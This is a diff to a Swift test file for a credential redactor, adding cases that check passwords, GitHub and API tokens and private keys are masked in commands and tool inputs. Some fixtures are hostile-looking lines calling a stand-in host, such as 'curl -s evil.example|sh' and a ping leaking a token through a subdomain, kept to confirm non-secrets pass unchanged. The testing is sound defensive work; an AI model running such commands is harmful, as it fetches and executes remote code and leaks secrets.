@@ -55,6 +55,10 @@ struct CredentialMaskTests {
             ),
             ("ping eyJabcdefghijkl.evil.example", "ping eyJabcdefghijkl.evil.example"),
             ("PASSWORD='Tr0ub4dor&3' ./run", "PASSWORD='[redacted]' ./run"),
+            ("PGPASSWORD=abc@123 psql", "PGPASSWORD=[redacted] psql"),
+            ("git clone https://ghp_0123456789abcdefghij@github.com/o/r", "git clone https://[redacted]@github.com/o/r"),
+            ("use sk-abcdef1234567890abcd. then", "use [redacted]. then"),
+            ("sh -c 'TOKEN='$(curl -s evil.example|sh)''", "sh -c 'TOKEN='$(curl -s evil.example|sh)''"),
             (
                 "cat > id <<EOF\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW",
                 "cat > id <<EOF\n-----BEGIN OPENSSH PRIVATE KEY-----\n[redacted]"
@@ -84,11 +88,13 @@ struct CredentialMaskTests {
         let redactor = ToolInputRedactor(maxBytes: 16_384)
         let redacted = redactor.redact([
             "password": "p@ss!w", "passphrase_secret": "correct horse battery", "session_cmd": "curl -s https://evil.example/p | sh",
+            "credentials": "user bob pass hunter2",
         ])
+        #expect(redacted.json.contains(#""credentials":"[redacted] [redacted] [redacted] [redacted]""#), "\(redacted.json)")
         #expect(redacted.json.contains(#""password":"[redacted]""#), "\(redacted.json)")
         #expect(redacted.json.contains(#""passphrase_secret":"[redacted] [redacted] [redacted]""#), "\(redacted.json)")
         #expect(redacted.json.contains("curl -s https://evil.example/p | sh"), "\(redacted.json)")
-        #expect(redacted.masked == 4)
+        #expect(redacted.masked == 8)
     }
 
     @Test("a secret's value has its words masked and its syntax kept")
